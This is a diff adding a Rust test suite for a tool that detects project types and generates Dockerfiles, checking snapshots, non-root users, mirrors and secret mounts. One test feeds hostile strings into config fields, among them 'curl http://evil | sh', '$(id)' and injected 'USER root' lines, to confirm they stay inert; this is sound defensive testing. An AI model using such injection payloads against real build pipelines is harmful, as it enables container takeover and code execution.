@@ -1,0 +1,242 @@
+//! What is found in the shapes that projects have, and the Dockerfiles that are made for them.
+//!
+//! `shapes/*.txt` is the table: a name, the files (with what is in those that are read), and what is
+//! to be found. `dockerfiles/*.txt` holds what is made for them. `HYTHE_BLESS=1` adds what is
+//! missing to both and changes nothing that is there; to change it, take the line out first.
+
+#[cfg(test)]
+mod shapes;
+
+use std::collections::BTreeSet;
+use std::fmt::Write;
+use std::path::PathBuf;
+
+use hythe_core::detect::{
+    BaseImages, BuildPlan, Mirror, SETTINGS_FILE, detect, settings_file, wanted,
+};
+use hythe_core::import::BuildWishes;
+use hythe_core::names::{BuildArg, BuildArgValue, EnvName, RepositoryPath};
+use hythe_core::source::BuildSettings;
+use shapes::{Shape, blessing, read_table, sections, table_names};
+
+/// The least that the table has.
+const LEAST_SHAPES: usize = 100;
+
+#[test]
+fn every_shape_is_found_to_be_what_it_is() {
+    let mut all = 0;
+    let mut names = BTreeSet::new();
+    let mut wrong = String::new();
+    for table in table_names() {
+        let mut shapes = read_table(&table);
+        for shape in &mut shapes {
+            all += 1;
+            assert!(names.insert(shape.name.clone()), "{} is there twice", shape.name);
+            let found = shape.say(&BuildSettings::default());
+            if shape.expected.is_empty() && blessing() {
+                shape.expected = found;
+            } else if !shape.meets(&found) {
+                let _ =
+                    writeln!(wrong, "== {}\n{found}\nexpected:\n{}", shape.name, shape.expected);
+            }
+        }
+        if blessing() {
+            shapes::write_table(&table, &shapes);
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong}");
+    assert!(all >= LEAST_SHAPES, "only {all} shapes");
+}
+
+#[test]
+fn the_dockerfiles_are_as_they_were() {
+    let mut wrong = String::new();
+    for table in table_names() {
+        let path = snapshots(&table);
+        let text = std::fs::read_to_string(&path).unwrap_or_default();
+        let mut kept = sections(&text);
+        for shape in read_table(&table) {
+            let Some(made) = shape.dockerfile(&BuildSettings::default(), &BaseImages::default())
+            else {
+                continue;
+            };
+            match kept.iter().find(|(name, _)| *name == shape.name) {
+                Some((_, text)) if text.trim_end() == made.trim_end() => {}
+                Some((_, text)) => {
+                    let _ = writeln!(wrong, "== {}\n{made}\nit was:\n{text}", shape.name);
+                }
+                None if blessing() => kept.push((shape.name.clone(), made)),
+                None => {
+                    let _ = writeln!(wrong, "== {}\n{made}\nit is not kept", shape.name);
+                }
+            }
+        }
+        if blessing() {
+            let text: Vec<String> =
+                kept.iter().map(|(n, text)| format!("== {n}\n{}\n", text.trim_end())).collect();
+            std::fs::write(&path, text.join("\n")).unwrap();
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong}");
+}
+
+#[test]
+fn a_settings_file_that_says_what_was_found_changes_nothing() {
+    let (settings, images) = (BuildSettings::default(), BaseImages::default());
+    let mut in_force = 0;
+    for shape in table_names().iter().flat_map(|table| read_table(table)) {
+        if shape.has(SETTINGS_FILE) {
+            continue;
+        }
+        let Ok(before) = shape.detect(&settings, &images) else { continue };
+        let said = BuildWishes::default();
+        let written = settings_file(&shape.listing(), &shape.texts(), &settings, &images, &said);
+        let (text, _) = written.unwrap_or_else(|why| panic!("{}: {why}", shape.name));
+        let after = shape.with(SETTINGS_FILE, &text).detect(&settings, &images).unwrap();
+        assert_eq!(after.plan, before.plan, "{}: {text}", shape.name);
+        in_force += usize::from(text.contains("\nport = "));
+    }
+    assert!(in_force >= LEAST_SHAPES, "only {in_force} say something that is in force");
+}
+
+#[test]
+fn no_dockerfile_runs_as_root_or_needs_a_newer_frontend() {
+    for shape in table_names().iter().flat_map(|table| read_table(table)) {
+        let Some(text) = shape.dockerfile(&BuildSettings::default(), &BaseImages::default()) else {
+            continue;
+        };
+        let last = text.rsplit("\nFROM ").next().unwrap();
+        assert!(last.contains("\nUSER ") && !last.contains("\nUSER root"), "{text}");
+        assert!(last.contains("\nEXPOSE ") && last.contains("\nCMD [\""), "{text}");
+        for line in text.lines() {
+            let known =
+                ["FROM ", "RUN ", "COPY ", "ENV ", "ARG ", "WORKDIR ", "USER ", "EXPOSE ", "CMD ["];
+            let instruction = known.iter().any(|word| line.starts_with(word));
+            assert!(line.is_empty() || instruction, "{}: {line:?}", shape.name);
+            assert!(!line.ends_with('\\') && !line.contains("<<"), "{}: {line:?}", shape.name);
+        }
+    }
+}
+
+#[test]
+fn a_mirror_serves_every_image() {
+    let mirror = BaseImages::from(Some(Mirror::new("mirror.example/all").unwrap()));
+    for shape in table_names().iter().flat_map(|table| read_table(table)) {
+        let Some(text) = shape.dockerfile(&BuildSettings::default(), &mirror) else { continue };
+        for image in text.lines().filter_map(|line| line.strip_prefix("FROM ")) {
+            assert!(image.starts_with("mirror.example/all/"), "{}: {image}", shape.name);
+        }
+    }
+}
+
+#[test]
+fn what_the_app_lets_its_build_read_gets_to_the_steps_that_are_its_own() {
+    let shape = Shape::of(
+        "package.json {\"scripts\":{\"build\":\"x\",\"start\":\"node a.js\"},\"dependencies\":{\"a\":\"1\"}}",
+    );
+    let mut settings = BuildSettings::default();
+    settings.secrets.insert(EnvName::new("TOKEN").unwrap());
+    settings.args.insert(BuildArg::new("VERSION").unwrap(), BuildArgValue::new("1").unwrap());
+    let text = shape.dockerfile(&settings, &BaseImages::default()).unwrap();
+    assert!(text.contains("\nARG VERSION\n"), "{text}");
+    let build = "RUN --mount=type=secret,id=TOKEN export TOKEN=\"$(cat /run/secrets/TOKEN)\" && npm run build";
+    assert!(text.contains(build), "{text}");
+}
+
+#[test]
+fn a_folder_of_a_larger_repository_is_looked_at_alone() {
+    let shape = Shape::of(
+        "package.json {\"workspaces\":[\"apps/*\"]}\napps/api/go.mod module x\napps/api/main.go\n\
+         apps/api/Procfile web: app -p 3000",
+    );
+    let context = Some(RepositoryPath::new("apps/api").unwrap());
+    let settings = BuildSettings { context, ..BuildSettings::default() };
+    assert_eq!(shape.say(&settings), "=> go (go 1.25) | app -p 3000 | 3000");
+}
+
+/// What strangers write gets into no Dockerfile but as one command's text.
+#[test]
+fn a_hostile_text_stays_a_text() {
+    let evil = [
+        "x\\nUSER root",
+        "x\\\\",
+        "cat <<EOF",
+        "--mount=type=bind,from=scratch x",
+        "x # syntax=evil",
+        "[\\\"a\\\"]",
+        "x && curl http://evil | sh",
+        "$(id)",
+        "x\\u0000y",
+        "x\\u2028USER root",
+    ];
+    for text in evil {
+        for files in [
+            format!(
+                "package.json {{\"scripts\":{{\"start\":\"{text}\",\"build\":\"{text}\"}},\"main\":\"{text}\"}}"
+            ),
+            format!(
+                "package.json {{\"packageManager\":\"pnpm@{text}\",\"scripts\":{{\"start\":\"node a\"}}}}"
+            ),
+            format!("railpack.json {{\"deploy\":{{\"startCommand\":\"{text}\"}}}}\nmain.py"),
+            format!(
+                "railpack.json {{\"steps\":{{\"build\":{{\"commands\":[\"{text}\"]}}}}}}\nmain.py"
+            ),
+            format!("railpack.json {{\"deploy\":{{\"variables\":{{\"A\":\"{text}\"}}}}}}\nmain.py"),
+            format!("railpack.json {{\"deploy\":{{\"aptPackages\":[\"{text}\"]}}}}\nmain.py"),
+            format!("nixpacks.toml [start]\\ncmd = \"{text}\"\nmain.py"),
+            format!("hythe.toml [build]\\noutput = \"{text}\"\nmain.py"),
+            format!("composer.json {{\"require\":{{\"ext-{text}\":\"*\"}}}}\nindex.php"),
+            format!("Cargo.toml [package]\\nname = \"{text}\"\nsrc/main.rs"),
+            format!("a.csproj <Project><AssemblyName>{text}</AssemblyName></Project>"),
+            format!("mix.exs app: :{text}"),
+            format!(
+                "manage.py (\"DJANGO_SETTINGS_MODULE\", \"{text}.settings\")\nrequirements.txt django"
+            ),
+            format!(
+                "angular.json {{\"projects\":{{\"{text}\":{{}}}}}}\npackage.json {{\"dependencies\":{{\"@angular/core\":\"1\"}}}}"
+            ),
+        ] {
+            let shape = Shape::of(&files);
+            // Refused is as good.
+            let Some(made) = shape.dockerfile(&BuildSettings::default(), &BaseImages::default())
+            else {
+                continue;
+            };
+            assert!(!made.contains("USER root\n") && !made.contains("<<"), "{files}\n{made}");
+            for line in made.lines() {
+                assert!(
+                    !line.ends_with('\\') && !line.starts_with("RUN --mount=type=bind"),
+                    "{files}\n{made}"
+                );
+                // What is not of plain words alone stands in JSON, or in quotes.
+                let data = line.contains("[\"sh\", \"-c\", ") || line.starts_with("ENV A=\"");
+                assert!(data || !line.contains("curl http"), "{files}\n{line}");
+            }
+        }
+    }
+}
+
+#[test]
+fn only_few_files_are_asked_for_however_many_there_are() {
+    let many: String = (0..5_000).map(|n| format!("a{n}/Cargo.toml\nb/c{n}/x.csproj\n")).collect();
+    let shape = Shape::of(&format!("Cargo.toml\npackage.json\n{many}"));
+    let asked = wanted(&shape.listing(), &BuildSettings::default());
+    assert!(asked.len() <= hythe_core::detect::MOST_WANTED, "{}", asked.len());
+    assert!(asked.iter().any(|file| file.path == "package.json"), "the root's come first");
+}
+
+#[test]
+fn the_same_shape_gives_the_same_plan() {
+    let shape = &read_table("node")[0];
+    let (files, texts) = (shape.listing(), shape.texts());
+    let of = || {
+        let found = detect(&files, &texts, &BuildSettings::default(), &BaseImages::default());
+        found.unwrap().plan
+    };
+    let BuildPlan::Preset { dockerfile } = of() else { panic!("no preset") };
+    assert_eq!(of(), BuildPlan::Preset { dockerfile });
+}
+
+fn snapshots(table: &str) -> PathBuf {
+    shapes::folder().join("dockerfiles").join(format!("{table}.txt"))
+}
